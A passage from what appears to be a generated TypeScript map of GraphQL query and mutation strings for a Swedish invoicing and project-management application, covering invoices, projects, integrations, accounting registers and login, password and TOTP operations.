    "\n  mutation IntUpdateConnection($input: UpdateConnectionInput!) {\n    updateConnection(input: $input) {\n      __typename\n      ... on MutationUpdateConnectionSuccess { data { id active notificationEmails hasCredentials } }\n      ... on Error { message code }\n    }\n  }\n": types.IntUpdateConnectionDocument,
    "\n  mutation IntSetFlow($id: ID!, $flowId: String!, $enabled: Boolean!) {\n    setConnectionFlowEnabled(id: $id, flowId: $flowId, enabled: $enabled) {\n      __typename\n      ... on MutationSetConnectionFlowEnabledSuccess { data { enabledFlows flows { id enabled } } }\n      ... on Error { message code }\n    }\n  }\n": types.IntSetFlowDocument,
    "\n  mutation IntCheck($id: ID!) { checkConnection(id: $id) { __typename ... on MutationCheckConnectionSuccess { data { ok message } } } }\n": types.IntCheckDocument,
    "\n  mutation IntRun($id: ID!, $flows: [String!], $dryRun: Boolean) {\n    runConnection(id: $id, flows: $flows, dryRun: $dryRun) {\n      __typename\n      ... on MutationRunConnectionSuccess { data { id status queuedAt } }\n      ... on Error { message code }\n    }\n  }\n": types.IntRunDocument,
    "\n  query IntRunResult($id: ID!) {\n    node(id: $id) {\n      ... on ConnectorRun {\n        id status trigger dryRun error notification cancelledBy cancelRequestedAt\n        flows { flowId status created updated unchanged skipped failed error }\n        failures { id reference entityType message }\n      }\n    }\n  }\n": types.IntRunResultDocument,
    "\n  mutation IntCancel($id: ID!) {\n    cancelConnectorRun(id: $id) {\n      __typename\n      ... on MutationCancelConnectorRunSuccess { data { id status cancelledBy } }\n      ... on Error { message code }\n    }\n  }\n": types.IntCancelDocument,
    "\n  mutation IntSetCompanyLanguage($language: Language) {\n    updateCompanySettings(input: { language: $language }) {\n      __typename\n      ... on MutationUpdateCompanySettingsSuccess { data { language } }\n      ... on Error { message code }\n    }\n  }\n": types.IntSetCompanyLanguageDocument,
    "\n  mutation IntRetry($id: ID!) {\n    retryConnectorFailure(id: $id) {\n      __typename\n      ... on MutationRetryConnectorFailureSuccess { data { id status } }\n      ... on Error { message code }\n    }\n  }\n": types.IntRetryDocument,
    "\n  query IntHistory($id: ID!) {\n    node(id: $id) {\n      ... on Connection {\n        runs(first: 10) { edges { node { status trigger flows { flowId status } failures { reference message entityType } } } }\n      }\n    }\n  }\n": types.IntHistoryDocument,
    "\n  mutation IntAuthorizeUrl($id: ID!, $redirectUri: String!, $state: String!) {\n    connectionAuthorizeUrl(id: $id, redirectUri: $redirectUri, state: $state) {\n      __typename\n      ... on MutationConnectionAuthorizeUrlSuccess { data }\n      ... on Error { message code }\n    }\n  }\n": types.IntAuthorizeUrlDocument,
    "\n  mutation IntDelete($id: ID!) { deleteConnection(id: $id) { __typename ... on Error { code } } }\n": types.IntDeleteDocument,
    "\n  mutation DiCustomer($input: CreateCustomerInput!) {\n    createCustomer(input: $input) {\n      __typename\n      ... on MutationCreateCustomerSuccess { data { id number contacts(first: 5) { edges { node { id } } } } }\n      ... on Error { code message }\n    }\n  }\n": types.DiCustomerDocument,
    "\n  mutation DiProject($customerId: ID!) {\n    createProject(input: { customerId: $customerId, name: \"Distribution\", statusCode: 50 }) {\n      __typename ... on MutationCreateProjectSuccess { data { id number } } ... on Error { code message }\n    }\n  }\n": types.DiProjectDocument,
    "\n  mutation DiInvoice($input: CreateInvoiceInput!) {\n    createInvoice(input: $input) { __typename ... on MutationCreateInvoiceSuccess { data { id number } } ... on Error { code message } }\n  }\n": types.DiInvoiceDocument,
    "\n  mutation DiBuyers($invoiceId: ID!, $contactId: ID!) {\n    setInvoiceBuyers(invoiceId: $invoiceId, buyers: [{ contactId: $contactId }]) { __typename ... on Error { code message } }\n  }\n": types.DiBuyersDocument,
    "\n  mutation DiLock($id: ID!) {\n    lockInvoice(id: $id) { __typename ... on MutationLockInvoiceSuccess { data { id locked number } } ... on Error { code message } ... on ValidationError { issues { path message } } }\n  }\n": types.DiLockDocument,
    "\n  mutation DiCredit($id: ID!) {\n    creditInvoice(id: $id, reason: \"Fel antal timmar\") { __typename ... on MutationCreditInvoiceSuccess { data { id number } } ... on Error { code message } }\n  }\n": types.DiCreditDocument,
    "\n  mutation DiSend($invoiceId: ID!, $method: InvoiceDeliveryMethod) {\n    sendInvoice(invoiceId: $invoiceId, method: $method) {\n      __typename\n      ... on MutationSendInvoiceSuccess { data { id method recipient outcome requestedBy attempts sentAt } }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n    }\n  }\n": types.DiSendDocument,
    "\n  query DiDeliveries($id: ID!) {\n    invoice(id: $id) {\n      id\n      deliveryStatus\n      deliveries(first: 10) { totalCount edges { node { method recipient outcome requestedBy sentAt error attempts externalId } } }\n    }\n  }\n": types.DiDeliveriesDocument,
    "query DiPeppol($id: ID!) { invoice(id: $id) { id number peppolDocument peppolDocumentCheck { rule message } } }": types.DiPeppolDocument,
    "mutation IntAccount($input: CreateAccountInput!) { createAccount(input: $input) { __typename } }": types.IntAccountDocument,
    "mutation IntSettings($vat: String) { updateCompanySettings(input: { vatNumber: $vat }) { __typename } }": types.IntSettingsDocument,
    "\n  mutation IntCustomer($input: CreateCustomerInput!) {\n    createCustomer(input: $input) { __typename ... on MutationCreateCustomerSuccess { data { id } } }\n  }\n": types.IntCustomerDocument,
    "\n  mutation IntProject($input: CreateProjectInput!) {\n    createProject(input: $input) { __typename ... on MutationCreateProjectSuccess { data { id } } }\n  }\n": types.IntProjectDocument,
    "\n  mutation IntCreate($input: CreateInvoiceInput!) {\n    createInvoice(input: $input) { __typename ... on MutationCreateInvoiceSuccess { data { id lines { id } } } ... on Error { code message } }\n  }\n": types.IntCreateDocument,
    "\n  mutation IntLock($id: ID!) {\n    lockInvoice(id: $id) { __typename ... on Error { code } ... on ValidationError { issues { path code } } }\n  }\n": types.IntLockDocument,
    "\n  mutation IntAddLine($invoiceId: ID!, $input: InvoiceLineInput!) { addInvoiceLine(invoiceId: $invoiceId, input: $input) { __typename ... on Error { code } } }\n": types.IntAddLineDocument,
    "\n  mutation IntUpdateLine($id: ID!, $input: InvoiceLineInput!) { updateInvoiceLine(id: $id, input: $input) { __typename ... on Error { code } } }\n": types.IntUpdateLineDocument,
    "mutation IntRemoveLine($id: ID!) { removeInvoiceLine(id: $id) { __typename ... on Error { code } } }": types.IntRemoveLineDocument,
    "\n  mutation IntCredit($id: ID!, $reason: String!) {\n    creditInvoice(id: $id, reason: $reason) { __typename ... on MutationCreditInvoiceSuccess { data { id isCredit } } ... on Error { code path message } }\n  }\n": types.IntCreditDocument,
    "\n  mutation PdfSettings($input: UpdateCompanySettingsInput!) { updateCompanySettings(input: $input) { __typename ... on Error { message } } }\n": types.PdfSettingsDocument,
    "\n  mutation PdfCustomer($input: CreateCustomerInput!) {\n    createCustomer(input: $input) { __typename ... on MutationCreateCustomerSuccess { data { id contacts(first: 5) { edges { node { id } } } } } }\n  }\n": types.PdfCustomerDocument,
    "\n  mutation PdfProject($customerId: ID!) { createProject(input: { customerId: $customerId, number: \"10000\", name: \"Badrum\", statusCode: 50 }) { __typename ... on MutationCreateProjectSuccess { data { id } } } }\n": types.PdfProjectDocument,
    "\n  mutation PdfProject2($customerId: ID!) { createProject(input: { customerId: $customerId, name: \"Stambyte\", statusCode: 50 }) { __typename ... on MutationCreateProjectSuccess { data { id } } } }\n": types.PdfProject2Document,
    "\n  mutation PdfInvoice($input: CreateInvoiceInput!) {\n    createInvoice(input: $input) { __typename ... on MutationCreateInvoiceSuccess { data { id number pdfUrl } } ... on Error { message } }\n  }\n": types.PdfInvoiceDocument,
    "\n  mutation PdfBuyers($invoiceId: ID!, $buyers: [InvoiceBuyerInput!]!) { setInvoiceBuyers(invoiceId: $invoiceId, buyers: $buyers) { __typename ... on Error { message } } }\n": types.PdfBuyersDocument,
    "mutation PdfLock($id: ID!) { lockInvoice(id: $id) { __typename ... on ValidationError { issues { path code } } } }": types.PdfLockDocument,
    "\n  mutation PdfCredit($id: ID!, $reason: String!) {\n    creditInvoice(id: $id, reason: $reason) { __typename ... on MutationCreditInvoiceSuccess { data { id number pdfUrl } } ... on Error { message } }\n  }\n": types.PdfCreditDocument,
    "\n  mutation PdfCustomerLanguage($id: ID!, $language: Language!) {\n    updateCustomer(input: { id: $id, language: $language }) { __typename ... on Error { message } }\n  }\n": types.PdfCustomerLanguageDocument,
    "\n  mutation IsCreateStatus($code: Int!, $name: String!) {\n    createInvoiceStatus(code: $code, name: $name) { __typename ... on MutationCreateInvoiceStatusSuccess { data { id code name } } ... on Error { code } }\n  }\n": types.IsCreateStatusDocument,
    "mutation IsDeleteStatus($id: ID!) { deleteInvoiceStatus(id: $id) { __typename ... on Error { code } } }": types.IsDeleteStatusDocument,
    "\n  mutation IsUpdate($input: UpdateInvoiceInput!) {\n    updateInvoice(input: $input) {\n      __typename\n      ... on MutationUpdateInvoiceSuccess { data { statusCode status { code name } } }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n": types.IsUpdateDocument,
    "query IsList($code: Int) { invoices(first: 50, filter: { statusCode: $code }) { edges { node { id } } } }": types.IsListDocument,
    "\n  mutation InvCustomer($input: CreateCustomerInput!) {\n    createCustomer(input: $input) {\n      __typename\n      ... on MutationCreateCustomerSuccess { data { id contacts(first: 5) { edges { node { id name } } } } }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n": types.InvCustomerDocument,
    "\n  mutation InvProject($input: CreateProjectInput!) {\n    createProject(input: $input) { __typename ... on MutationCreateProjectSuccess { data { id number } } }\n  }\n": types.InvProjectDocument,
    "\n  mutation InvWorkOrder($projectId: ID!) {\n    createWorkOrder(projectId: $projectId, input: { name: \"AO\", customerReference: \"AO-REF\" }) { __typename ... on MutationCreateWorkOrderSuccess { data { id } } }\n  }\n": types.InvWorkOrderDocument,
    "\n  mutation InvAccount($input: CreateAccountInput!) { createAccount(input: $input) { __typename } }\n": types.InvAccountDocument,
    "\n  mutation InvSettings($vat: String) { updateCompanySettings(input: { vatNumber: $vat }) { __typename } }\n": types.InvSettingsDocument,
    "query InvTerms { paymentTerms { id days } me { id signature } }": types.InvTermsDocument,
    "\n  mutation InvCreate($input: CreateInvoiceInput!) {\n    createInvoice(input: $input) {\n      __typename\n      ... on MutationCreateInvoiceSuccess {\n        data {\n          id number title isCredit customerType customerReference locked readyForInvoice invoiceDate dueDate dueDateSetByHand\n          contractorVat noVat taxReductionType subtotal vatAmount total rounding taxReductionAmount amountToPay warning warnings\n          vatGroups { rate base vat }\n          customer { id } ourReference { signature } paymentTerm { days } workOrder { id }\n          lines { id position description quantity unitPrice amount vatRate kind accountNumber reductionEligible workOrder { id } }\n        }\n      }\n      ... on Error { code path message }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": types.InvCreateDocument,
    "\n  mutation InvUpdate($input: UpdateInvoiceInput!) {\n    updateInvoice(input: $input) {\n      __typename\n      ... on MutationUpdateInvoiceSuccess { data { invoiceDate dueDate dueDateSetByHand contractorVat noVat taxReductionType vatAmount total amountToPay taxReductionAmount warnings } }\n      ... on Error { code path message }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n": types.InvUpdateDocument,
    "\n  mutation InvAddLine($invoiceId: ID!, $input: InvoiceLineInput!) {\n    addInvoiceLine(invoiceId: $invoiceId, input: $input) {\n      __typename\n      ... on MutationAddInvoiceLineSuccess { data { id amount kind position } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n": types.InvAddLineDocument,
    "\n  mutation InvUpdateLine($id: ID!, $input: InvoiceLineInput!) {\n    updateInvoiceLine(id: $id, input: $input) { __typename ... on MutationUpdateInvoiceLineSuccess { data { amount kind reductionEligible } } ... on Error { code } }\n  }\n": types.InvUpdateLineDocument,
    "mutation InvRemoveLine($id: ID!) { removeInvoiceLine(id: $id) { __typename ... on Error { code } } }": types.InvRemoveLineDocument,
    "\n  mutation InvBuyers($invoiceId: ID!, $buyers: [InvoiceBuyerInput!]!) {\n    setInvoiceBuyers(invoiceId: $invoiceId, buyers: $buyers) {\n      __typename\n      ... on MutationSetInvoiceBuyersSuccess { data { taxReductionAmount amountToPay buyers { name personalIdentityNumber amount sharePercent } } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n": types.InvBuyersDocument,
    "\n  mutation InvLock($id: ID!) {\n    lockInvoice(id: $id) {\n      __typename\n      ... on MutationLockInvoiceSuccess { data { locked lockedBy invoiceDate dueDate taxReductionAmount amountToPay } }\n      ... on Error { code path message }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": types.InvLockDocument,
    "\n  mutation InvUnlock($id: ID!) { unlockInvoice(id: $id) { __typename ... on MutationUnlockInvoiceSuccess { data { locked } } ... on Error { code } } }\n": types.InvUnlockDocument,
    "\n  mutation InvReady($id: ID!, $ready: Boolean!) { setInvoiceReadyForInvoice(id: $id, ready: $ready) { __typename ... on MutationSetInvoiceReadyForInvoiceSuccess { data { readyForInvoice } } ... on Error { code } } }\n": types.InvReadyDocument,
    "\n  mutation InvCredit($id: ID!, $reason: String!) {\n    creditInvoice(id: $id, reason: $reason) {\n      __typename\n      ... on MutationCreditInvoiceSuccess { data { id number isCredit creditReason title creditOf { number } subtotal vatAmount total taxReductionAmount amountToPay lines { quantity amount } buyers { amount } } }\n      ... on Error { code path }\n    }\n  }\n": types.InvCreditDocument,
    "\n  mutation InvWorkTypes($lineId: ID!, $workTypes: [WorkTypePartInput!]!) {\n    setInvoiceLineWorkTypes(lineId: $lineId, workTypes: $workTypes) {\n      __typename\n      ... on MutationSetInvoiceLineWorkTypesSuccess { data { amount workTypes { workType amount hours } } }\n      ... on ValidationError { issues { path code } }\n      ... on Error { code }\n    }\n  }\n": types.InvWorkTypesDocument,
    "\n  query InvList($filter: InvoiceFilter, $orderBy: InvoiceOrder, $search: String, $first: Int) {\n    invoices(filter: $filter, orderBy: $orderBy, search: $search, first: $first) { totalCount edges { node { number total locked } } }\n  }\n": types.InvListDocument,
    "\n      query InvPage($first: Int!) {\n        invoices(first: $first) { edges { node { number total customer { name } project { number } ourReference { name } lines { description amount workOrder { id } } vatGroups { rate vat } } } }\n      }\n    ": types.InvPageDocument,
    "\n  mutation LrSettings($input: UpdateCompanySettingsInput!) {\n    updateCompanySettings(input: $input) {\n      __typename\n      ... on MutationUpdateCompanySettingsSuccess {\n        data {\n          organisationNumber registeredOffice fSkatt bankgiro bankgiroDigits plusgiro plusgiroDigits iban ibanFormatted bic lateInterestRate\n          defaultPaymentTerm { id days }\n        }\n      }\n      ... on ValidationError { issues { path code message } }\n    }\n  }\n": types.LrSettingsDocument,
    "query LrTerms { paymentTerms { id days } }": types.LrTermsDocument,
    "\n  mutation LrCustomer($input: CreateCustomerInput!) {\n    createCustomer(input: $input) { __typename ... on MutationCreateCustomerSuccess { data { id } } ... on ValidationError { issues { path code } } }\n  }\n": types.LrCustomerDocument,
    "\n  mutation LrUpdateCustomer($input: UpdateCustomerInput!) {\n    updateCustomer(input: $input) { __typename ... on ValidationError { issues { path code } } }\n  }\n": types.LrUpdateCustomerDocument,
    "\n  mutation LrProject($input: CreateProjectInput!) { createProject(input: $input) { __typename ... on MutationCreateProjectSuccess { data { id } } } }\n": types.LrProjectDocument,
    "\n  mutation LrInvoice($input: CreateInvoiceInput!) {\n    createInvoice(input: $input) { __typename ... on MutationCreateInvoiceSuccess { data { id dueDate warnings } } ... on ValidationError { issues { path code } } }\n  }\n": types.LrInvoiceDocument,
    "\n  mutation LrLock($id: ID!) {\n    lockInvoice(id: $id) {\n      __typename\n      ... on MutationLockInvoiceSuccess { data { locked invoiceDate dueDate } }\n      ... on ValidationError { issues { path code message } }\n    }\n  }\n": types.LrLockDocument,
    "\n  mutation RehashChangePassword($currentPassword: String, $newPassword: String!) {\n    changePassword(currentPassword: $currentPassword, newPassword: $newPassword) { __typename ... on Error { code message } }\n  }\n": types.RehashChangePasswordDocument,
    "\n  mutation CompleteLogin($challenge: String!, $code: String!) {\n    completeLogin(challenge: $challenge, code: $code) {\n      __typename\n      ... on Error { code message path }\n      ... on MutationCompleteLoginSuccess { data { accessToken refreshToken } }\n    }\n  }\n": types.CompleteLoginDocument,
    "mutation Logout { logout { __typename ... on Error { code } ... on MutationLogoutSuccess { data } } }": types.LogoutDocument,
    "mutation LogoutEverywhere { logoutEverywhere { __typename ... on MutationLogoutEverywhereSuccess { data } } }": types.LogoutEverywhereDocument,
    "\n  mutation RevokeSession($id: ID!) { revokeSession(id: $id) { __typename ... on Error { code } ... on MutationRevokeSessionSuccess { data } } }\n": types.RevokeSessionDocument,
    "query MySessions { mySessions { id current userAgent address expiresAt user { id } } }": types.MySessionsDocument,
    "\n  mutation ChangePassword($currentPassword: String, $newPassword: String!) {\n    changePassword(currentPassword: $currentPassword, newPassword: $newPassword) {\n      __typename\n      ... on Error { code path }\n      ... on MutationChangePasswordSuccess { data { accessToken refreshToken } }\n    }\n  }\n": types.ChangePasswordDocument,
    "\n  mutation RequestPasswordReset($email: String!) { requestPasswordReset(email: $email) { __typename ... on MutationRequestPasswordResetSuccess { data } } }\n": types.RequestPasswordResetDocument,
    "\n  mutation ResetPassword($token: String!, $newPassword: String!) {\n    resetPassword(token: $token, newPassword: $newPassword) {\n      __typename\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n      ... on MutationResetPasswordSuccess { data }\n    }\n  }\n": types.ResetPasswordDocument,
    "mutation EnrolTotp { enrolTotp { __typename ... on Error { code } ... on MutationEnrolTotpSuccess { data { secret uri } } } }": types.EnrolTotpDocument,
    "\n  mutation ConfirmTotp($code: String!) { confirmTotp(code: $code) { __typename ... on Error { code path } ... on MutationConfirmTotpSuccess { data } } }\n": types.ConfirmTotpDocument,
    "\n  mutation DisableTotp($code: String!) { disableTotp(code: $code) { __typename ... on Error { code path } ... on MutationDisableTotpSuccess { data } } }\n": types.DisableTotpDocument,
    "\n  mutation InviteUser($email: String!, $groupIds: [ID!]) {\n    inviteUser(email: $email, groupIds: $groupIds) {\n      __typename\n      ... on Error { code path }\n      ... on MutationInviteUserSuccess { data { id email expiresAt } }\n    }\n  }\n": types.InviteUserDocument,
    "\n  mutation AcceptInvite($token: String!, $name: String!, $password: String!) {\n    acceptInvite(token: $token, name: $name, password: $password) {\n      __typename\n      ... on Error { code path }\n      ... on MutationAcceptInviteSuccess { data { accessToken refreshToken } }\n    }\n  }\n": types.AcceptInviteDocument,
    "query LoginGroups { groups { id name } }": types.LoginGroupsDocument,
    "\n  mutation LoginDeactivateUser($input: UpdateUserInput!) { updateUser(input: $input) { __typename ... on MutationUpdateUserSuccess { data { active } } } }\n": types.LoginDeactivateUserDocument,
    "\n  mutation NfCreate($input: CreateCustomerInput!) {\n    createCustomer(input: $input) {\n      __typename\n      ... on MutationCreateCustomerSuccess { data { id number name } }\n      ... on Error { code message }\n    }\n  }\n": types.NfCreateDocument,
    "\n  mutation NfAssign($id: ID!, $userId: ID) {\n    assignCustomer(id: $id, userId: $userId) {\n      __typename\n      ... on MutationAssignCustomerSuccess { data { id assignedUser { signature } } }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n": types.NfAssignDocument,
    "\n  query NfMine($unreadOnly: Boolean) {\n    myNotifications(first: 50, unreadOnly: $unreadOnly) {\n      totalCount\n      edges { node { id kind customerNumber customerName by readAt mailStatus customer { id } } }\n    }\n  }\n": types.NfMineDocument,
    "\n  query NfAll($userId: ID, $mailStatus: NotificationMailStatus) {\n    notifications(first: 50, userId: $userId, mailStatus: $mailStatus) {\n      edges { node { id kind mailStatus mailTo mailAttempts mailError mailSentAt } }\n    }\n  }\n": types.NfAllDocument,
    "query NfNode($id: ID!) { node(id: $id) { id ... on Notification { kind } } }": types.NfNodeDocument,
    "\n  mutation NfRead($ids: [ID!]) {\n    markNotificationsRead(ids: $ids) {\n      __typename\n      ... on MutationMarkNotificationsReadSuccess { data }\n      ... on Error { code message }\n    }\n  }\n": types.NfReadDocument,
    "query OcInvoice($id: ID!) { invoice(id: $id) { id number ocrReference } }": types.OcInvoiceDocument,
    "query OcByOcr($reference: String!) { invoiceByOcr(reference: $reference) { id number } }": types.OcByOcrDocument,
    "query OcSearch($search: String) { invoices(first: 10, search: $search) { edges { node { id ocrReference } } } }": types.OcSearchDocument,
    "\n  mutation OcScheme($input: UpdateCompanySettingsInput!) {\n    updateCompanySettings(input: $input) { __typename ... on MutationUpdateCompanySettingsSuccess { data { ocrScheme } } ... on Error { code } }\n  }\n": types.OcSchemeDocument,
    "\n  mutation PrjCustomer($input: CreateCustomerInput!) {\n    createCustomer(input: $input) {\n      __typename\n      ... on MutationCreateCustomerSuccess { data { id number contacts(first: 5) { edges { node { id name } } } } }\n    }\n  }\n": types.PrjCustomerDocument,
    "\n  mutation PrjInactivate($id: ID!) { inactivateCustomer(id: $id) { __typename } }\n": types.PrjInactivateDocument,
    "query PrjMe { me { id signature } }": types.PrjMeDocument,
    "\n  mutation PrjCreate($input: CreateProjectInput!) {\n    createProject(input: $input) {\n      __typename\n      ... on MutationCreateProjectSuccess {\n        data {\n          id number name customerReference startDate endDate statusCode phase sentToAccounting finishedAt description createdBy\n          status { code name }\n          customer { id number }\n          contact { id name }\n          projectManager { signature }\n        }\n      }\n      ... on Error { code path message }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": types.PrjCreateDocument,
    "\n  mutation PrjUpdate($input: UpdateProjectInput!) {\n    updateProject(input: $input) {\n      __typename\n      ... on MutationUpdateProjectSuccess { data { id name statusCode phase sentToAccounting statusChangedAt finishedAt description contact { id } customer { id } modifiedBy } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n": types.PrjUpdateDocument,
    "\n  mutation PrjClose($id: ID!, $statusCode: Int) {\n    closeProject(id: $id, statusCode: $statusCode) {\n      __typename\n      ... on MutationCloseProjectSuccess { data { statusCode phase finishedAt } }\n      ... on Error { code path }\n    }\n  }\n": types.PrjCloseDocument,
    "\n  mutation PrjAddWorkOrder($projectId: ID!, $input: WorkOrderInput!) {\n    createWorkOrder(projectId: $projectId, input: $input) {\n      __typename\n      ... on MutationCreateWorkOrderSuccess { data { id number reference name statusCode phase startDate effectiveStartDate customerReference project { number } } }\n      ... on Error { code path message }\n    }\n  }\n": types.PrjAddWorkOrderDocument,
    "\n  mutation PrjUpdateWorkOrder($id: ID!, $input: WorkOrderInput!) {\n    updateWorkOrder(id: $id, input: $input) {\n      __typename\n      ... on MutationUpdateWorkOrderSuccess { data { name startDate effectiveStartDate statusCode } }\n      ... on Error { code path }\n    }\n  }\n": types.PrjUpdateWorkOrderDocument,
    "\n  mutation PrjCloseWorkOrder($id: ID!) {\n    closeWorkOrder(id: $id) { __typename ... on MutationCloseWorkOrderSuccess { data { statusCode phase finishedAt } } }\n  }\n": types.PrjCloseWorkOrderDocument,
    "\n  mutation PrjAddChangeOrder($projectId: ID!, $input: ChangeOrderInput!) {\n    createChangeOrder(projectId: $projectId, input: $input) {\n      __typename\n      ... on MutationCreateChangeOrderSuccess { data { id number code reference name description estimatedAmount statusCode } }\n      ... on Error { code path }\n    }\n  }\n": types.PrjAddChangeOrderDocument,
    "\n  mutation PrjUpdateChangeOrder($id: ID!, $input: ChangeOrderInput!) {\n    updateChangeOrder(id: $id, input: $input) {\n      __typename\n      ... on MutationUpdateChangeOrderSuccess { data { estimatedAmount description statusCode } }\n      ... on Error { code path }\n    }\n  }\n": types.PrjUpdateChangeOrderDocument,
    "\n  mutation PrjCloseChangeOrder($id: ID!, $statusCode: Int) {\n    closeChangeOrder(id: $id, statusCode: $statusCode) {\n      __typename\n      ... on MutationCloseChangeOrderSuccess { data { statusCode phase } }\n      ... on Error { code path }\n    }\n  }\n": types.PrjCloseChangeOrderDocument,
    "\n  query PrjGet($id: ID!) {\n    project(id: $id) {\n      id number statusCode\n      workOrders(first: 50) { totalCount edges { node { number reference statusCode } } }\n      changeOrders(first: 50) { totalCount edges { node { code statusCode } } }\n      openWorkOrders: workOrders(first: 50, finished: false) { totalCount }\n    }\n  }\n": types.PrjGetDocument,
    "\n  query PrjList($first: Int, $after: String, $search: String, $filter: ProjectFilter, $orderBy: ProjectOrder) {\n    projects(first: $first, after: $after, search: $search, filter: $filter, orderBy: $orderBy) {\n      totalCount\n      pageInfo { hasNextPage endCursor }\n      edges { node { number name statusCode startDate } }\n    }\n  }\n": types.PrjListDocument,
    "query PrjByNumber($number: String!) { projectByNumber(number: $number) { id name } }": types.PrjByNumberDocument,
    "query PrjStatuses { projectStatuses { id code name phase } }": types.PrjStatusesDocument,
    "\n  mutation PrjCreateStatus($input: CreateProjectStatusInput!) {\n    createProjectStatus(input: $input) {\n      __typename\n      ... on MutationCreateProjectStatusSuccess { data { id code name phase } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n": types.PrjCreateStatusDocument,
    "\n  mutation PrjRenameStatus($id: ID!, $name: String!) {\n    renameProjectStatus(id: $id, name: $name) { __typename ... on MutationRenameProjectStatusSuccess { data { code name } } ... on Error { code } }\n  }\n": types.PrjRenameStatusDocument,
    "\n  mutation PrjDeleteStatus($id: ID!) {\n    deleteProjectStatus(id: $id) { __typename ... on Error { code message } }\n  }\n": types.PrjDeleteStatusDocument,
    "\n  mutation PrjDeleteCustomer($id: ID!) { deleteCustomer(id: $id) { __typename ... on Error { code message } } }\n": types.PrjDeleteCustomerDocument,
    "\n  mutation PrjRemoveContact($id: ID!) { removeContact(id: $id) { __typename ... on Error { code } } }\n": types.PrjRemoveContactDocument,
    "\n      query PrjPage($first: Int!) {\n        projects(first: $first) {\n          edges { node {\n            number status { name } customer { name }\n            workOrders(first: 10) { edges { node { reference effectiveStartDate status { name } } } }\n            changeOrders(first: 10) { edges { node { reference estimatedAmount } } }\n          } }\n        }\n      }\n    ": types.PrjPageDocument,
    "query RaRead { revenueAccountingSettings { receivablesAccountNumber } }": types.RaReadDocument,
    "\n  mutation RaSet($n: Int!) {\n    updateRevenueAccountingSettings(input: { receivablesAccountNumber: $n }) {\n      __typename\n      ... on MutationUpdateRevenueAccountingSettingsSuccess { data { receivablesAccountNumber } }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n": types.RaSetDocument,
    "\n  query ExpList($search: String, $filter: CustomerFilter, $orderBy: CustomerOrder) {\n    customers(first: 100, search: $search, filter: $filter, orderBy: $orderBy) { edges { node { number } } }\n  }\n": types.ExpListDocument,
    "\n  mutation RegCreateAccount($input: CreateAccountInput!) {\n    createAccount(input: $input) {\n      __typename\n      ... on MutationCreateAccountSuccess { data { id number name active kind invoiceItemNumber externalVatCode defaultVatRate createdBy modifiedBy } }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": types.RegCreateAccountDocument,
    "\n  mutation RegUpdateAccount($input: UpdateAccountInput!) {\n    updateAccount(input: $input) {\n      __typename\n      ... on MutationUpdateAccountSuccess { data { id number name active kind invoiceItemNumber externalVatCode defaultVatRate } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": types.RegUpdateAccountDocument,
    "\n  query RegAccounts($search: String, $filter: AccountFilter, $first: Int, $after: String) {\n    accounts(search: $search, filter: $filter, first: $first, after: $after) {\n      totalCount\n      pageInfo { hasNextPage endCursor }\n      edges { node { number name kind active } }\n    }\n  }\n": types.RegAccountsDocument,
    "query RegAccountByNumber($number: Int!) { accountByNumber(number: $number) { id number name } }": types.RegAccountByNumberDocument,
    "\n  mutation RegCreateCostCentre($input: CreateCostCentreInput!) {\n    createCostCentre(input: $input) {\n      __typename\n      ... on MutationCreateCostCentreSuccess { data { id code name active } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": types.RegCreateCostCentreDocument,
    "\n  mutation RegUpdateCostCentre($input: UpdateCostCentreInput!) {\n    updateCostCentre(input: $input) {\n      __typename\n      ... on MutationUpdateCostCentreSuccess { data { id code name active } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n": types.RegUpdateCostCentreDocument,
    "query RegCostCentres($includeInactive: Boolean) { costCentres(includeInactive: $includeInactive) { code name active } }": types.RegCostCentresDocument,
    "\n  mutation RegCreateSupplier($input: CreateSupplierInput!) {\n    createSupplier(input: $input) {\n      __typename\n      ... on MutationCreateSupplierSuccess {\n        data {\n          id number name organisationNumber vatNumber address1 address2 postcode city countryCode email phone\n          bankgiro plusgiro iban bic active createdBy\n        }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": types.RegCreateSupplierDocument,
    "\n  mutation RegUpdateSupplier($input: UpdateSupplierInput!) {\n    updateSupplier(input: $input) {\n      __typename\n      ... on MutationUpdateSupplierSuccess { data { id number name organisationNumber city bankgiro iban bic active } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n": types.RegUpdateSupplierDocument,
    "\n  query RegSuppliers($search: String, $filter: SupplierFilter) {\n    suppliers(search: $search, filter: $filter, first: 50) { totalCount edges { node { number name active } } }\n  }\n": types.RegSuppliersDocument,
    "\n  mutation RegCreateTerms($input: CreatePaymentTermInput!) {\n    createPaymentTerm(input: $input) {\n      __typename\n      ... on MutationCreatePaymentTermSuccess { data { id code name days active } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": types.RegCreateTermsDocument,
